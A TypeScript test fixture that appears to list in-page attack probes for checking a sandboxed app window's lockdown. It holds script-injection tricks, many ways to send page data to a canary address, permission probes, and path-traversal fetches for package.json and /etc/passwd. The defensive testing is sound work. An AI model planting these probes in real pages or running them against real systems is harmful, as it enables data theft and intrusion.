/** What an attack finds in the page; functions are sent there as text, so that each stands on its own. */
export interface Stage {
  /** An address outside that remembers who came: what came under the attack's own name is its success. */
  away: string
  /** A TURN server over TCP and one over UDP, which remember it as well. */
  turn: { tcp: number; udp: number }
}

/** It succeeded where it answers true, or somebody came to the address outside. */
type Act = (stage: Stage) => unknown

/** Text that becomes script. */
const scripts = {
  'runs an inline script': ({ away }) => {
    const script = document.createElement('script')
    script.textContent = `fetch(${JSON.stringify(away)},{mode:'no-cors'})`
    document.body.append(script)
  },
  'runs a script from elsewhere': ({ away }) => {
    const script = document.createElement('script')
    script.src = away
    document.body.append(script)
  },
  'runs a module from elsewhere': ({ away }) => {
    const script = document.createElement('script')
    script.type = 'module'
    script.src = away
    document.body.append(script)
  },
  'runs a script of a data: address': ({ away }) => {
    const script = document.createElement('script')
    script.src = `data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(away))},{mode:'no-cors'})`
    document.body.append(script)
  },
  'runs a script of a blob': ({ away }) => {
    const script = document.createElement('script')
    script.src = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(away)},{mode:'no-cors'})`]))
    document.body.append(script)
  },
  'evaluates text': () => Reflect.construct(Function, ['return true'])() as unknown,
  'evaluates text by eval': () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('true'),
  'runs text on a timer': ({ away }) => {
    Reflect.apply(setTimeout, window, [`fetch(${JSON.stringify(away)},{mode:'no-cors'})`, 0])
  },
  'imports a module from elsewhere': ({ away }) => import(away),
  'imports a module of text': () => {
    const code = 'data:text/javascript,export default 1'
    return import(code).then(() => true)
  },
  'compiles WebAssembly': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true),
  'starts a worker of text': ({ away }) => {
    const code = `fetch(${JSON.stringify(away)},{mode:'no-cors'})`
    void new Worker(URL.createObjectURL(new Blob([code])))
  },
  'starts a shared worker of text': ({ away }) => {
    const code = `fetch(${JSON.stringify(away)},{mode:'no-cors'})`
    void new SharedWorker(URL.createObjectURL(new Blob([code])))
  },
} satisfies Record<string, Act>

/** Markup that a vendor's or a customer's text could hold. */
const markup = {
  'writes markup with innerHTML': () => {
    document.createElement('div').innerHTML = '<b>x</b>'
    return true
  },
  'writes markup with insertAdjacentHTML': () => {
    document.createElement('div').insertAdjacentHTML('beforeend', '<b>x</b>')
    return true
  },
  'writes markup with document.write': () => {
    document.implementation.createHTMLDocument('').write('<b>x</b>')
    return true
  },
  'parses markup': () => new DOMParser().parseFromString('<b>x</b>', 'text/html') instanceof Document,
  'makes markup of a range': () => document.createRange().createContextualFragment('<b>x</b>') instanceof DocumentFragment,
  'runs the handler of an attribute': ({ away }) => {
    const image = document.createElement('img')
    image.setAttribute('onerror', `fetch(${JSON.stringify(away)},{mode:'no-cors'})`)
    image.src = 'data:,'
  },
  'runs the script of a frame of text': ({ away }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<script>fetch(${JSON.stringify(away)},{mode:'no-cors'})</script>`
    document.body.append(frame)
  },
  'runs the script of a frame’s address': ({ away }) => {
    const frame = document.createElement('iframe')
    frame.src = `javascript:fetch(${JSON.stringify(away)},{mode:'no-cors'})`
    document.body.append(frame)
  },
  'makes a policy of its own for script': () => {
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
    return Boolean(trustedTypes.createPolicy(`own-${Math.random()}`, { createHTML: (text: string) => text }))
  },
  'gives the page another base': ({ away }) => {
    const base = document.createElement('base')
    base.href = 'https://elders.invalid/'
    document.head.append(base)
    const isTaken = document.baseURI.startsWith('https://elders.invalid') && away !== ''
    base.remove()
    return isTaken
  },
} satisfies Record<string, Act>

/** What the page sees, on its way out. */
const ways = {
  'fetches from elsewhere': ({ away }) => fetch(away, { mode: 'no-cors' }),
  'posts what it sees': ({ away }) => fetch(away, { method: 'POST', mode: 'no-cors', body: document.title, keepalive: true }),
  'asks by XMLHttpRequest': ({ away }) => {
    const request = new XMLHttpRequest()
    request.open('GET', away)
    request.send()
  },
  'opens a WebSocket': ({ away }) => void new WebSocket(away.replace('http', 'ws')),
  'listens to an event source': ({ away }) => void new EventSource(away),
  'sends a beacon': ({ away }) => void navigator.sendBeacon(away, 'x'),
  'shows a picture from elsewhere': ({ away }) => {
    new Image().src = away
  },
  'plays a film from elsewhere': ({ away }) => {
    document.body.append(Object.assign(document.createElement('video'), { src: away, preload: 'auto' }))
  },
  'plays a sound from elsewhere': ({ away }) => {
    document.body.append(Object.assign(new Audio(away), { preload: 'auto' }))
  },
  'takes a style sheet from elsewhere': ({ away }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: away }))
  },
  'imports a style from elsewhere': ({ away }) => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: `@import url("${away}")` }))
  },
  'paints a background from elsewhere': ({ away }) => {
    const box = document.createElement('div')
    box.setAttribute('style', `width:9px;height:9px;background:url("${away}")`)
    document.body.append(box)
  },
  'takes a letter type from elsewhere': ({ away }) => new FontFace('x', `url("${away}")`).load(),
  'loads a frame from elsewhere': ({ away }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: away }))
  },
  'loads an object from elsewhere': ({ away }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: away }))
  },
  'embeds something from elsewhere': ({ away }) => {
    document.body.append(Object.assign(document.createElement('embed'), { src: away }))
  },
  'fetches ahead': ({ away }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: away }))
  },
  'loads ahead': ({ away }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: away }))
  },
  'loads a module ahead': ({ away }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: away }))
  },
  'pings by a link': ({ away }) => {
    const link = Object.assign(document.createElement('a'), { ping: away, href: '#' })
    document.body.append(link)
    link.click()
  },
  'asks main for a customer’s file by itself': () => fetch('/evidence/bon').then(() => true),
  'posts a form into a frame': ({ away }) => {
    const form = Object.assign(document.createElement('form'), { action: away, method: 'post', target: 'nieuw-kader' })
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'nieuw-kader' }), form)
    form.submit()
  },
  'talks to a TURN server over TCP': ({ turn }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${turn.tcp}?transport=tcp`, username: 'x', credential: 'x' }],
    })
    peer.createDataChannel('x')
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  },
  'talks to a TURN server over UDP': ({ turn }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${turn.udp}?transport=udp`, username: 'x', credential: 'x' }],
    })
    peer.createDataChannel('x')
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  },
  'fetches out of an empty frame': ({ away }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return (frame.contentWindow as unknown as typeof globalThis).fetch(away, { mode: 'no-cors' })
  },
  'shows a picture out of an empty frame': ({ away }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const { Image: Picture } = frame.contentWindow as unknown as typeof globalThis
    new Picture().src = away
  },
} satisfies Record<string, Act>

/** What a screen has no need of. */
const rights = {
  'learns where the computer is': () =>
    navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state === 'granted'),
  'sees by the camera': () => navigator.permissions.query({ name: 'camera' }).then(({ state }) => state === 'granted'),
  'hears by the microphone': () => navigator.permissions.query({ name: 'microphone' }).then(({ state }) => state === 'granted'),
  'notifies in our name': () => navigator.permissions.query({ name: 'notifications' }).then(({ state }) => state === 'granted'),
  'reads the clipboard': () =>
    navigator.permissions.query({ name: 'clipboard-read' as PermissionName }).then(({ state }) => state === 'granted'),
  'plays on instruments': () => navigator.permissions.query({ name: 'midi' }).then(({ state }) => state === 'granted'),
  'keeps the screen awake': () =>
    navigator.permissions.query({ name: 'screen-wake-lock' }).then(({ state }) => state === 'granted'),
  'stores for ever': () => navigator.permissions.query({ name: 'persistent-storage' }).then(({ state }) => state === 'granted'),
} satisfies Record<string, Act>

/** What lies beside the page's own files, and the way to main. */
const reach = {
  'reads a file beside ours': () => fetch('/..%2f..%2fpackage.json').then(({ ok }) => ok),
  'reads a file beside ours by backslashes': () => fetch('/..%5c..%5cpackage.json').then(({ ok }) => ok),
  'reads a file of the system': () => fetch('/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd').then(({ ok }) => ok),
  'finds Node': () => 'require' in window || 'process' in window || 'Buffer' in window,
  'reaches a channel that is not the contract’s': () =>
    (window as unknown as { balie: { invoke(channel: string, input: unknown): Promise<{ ok: boolean }> } }).balie
      .invoke('balie-file:register', { path: '/etc/hostname' })
      .then(({ ok }) => ok),
} satisfies Record<string, Act>

/** Where the page may be led; each leaves the page, and is seen by where it is then. */
export const departures = {
  'goes elsewhere': ({ away }) => void (location.href = away),
  'replaces itself': ({ away }) => location.replace(away),
  'follows a link': ({ away }) => Object.assign(document.createElement('a'), { href: away }).click(),
  'sends a form elsewhere': ({ away }) => {
    const form = Object.assign(document.createElement('form'), { action: away, method: 'get' })
    document.body.append(form)
    form.submit()
  },
  'refreshes elsewhere': ({ away }) => {
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${away}` }))
  },
} satisfies Record<string, Act>

/**
 * What the page does not outlive: an empty frame has a peer connection of its own, and Chromium 156 ends the process of a page with a
 * list of connections rather than let it through (docs/adr/0024).
 */
export const ending = {
  'talks to a TURN server out of an empty frame': ({ turn }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis
    const peer = new Peer({ iceServers: [{ urls: `turn:127.0.0.1:${turn.tcp}?transport=tcp`, username: 'x', credential: 'x' }] })
    peer.createDataChannel('x')
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  },
} satisfies Record<string, Act>

export const pageAttacks = { ...scripts, ...markup, ...ways, ...rights, ...reach } satisfies Record<string, Act>
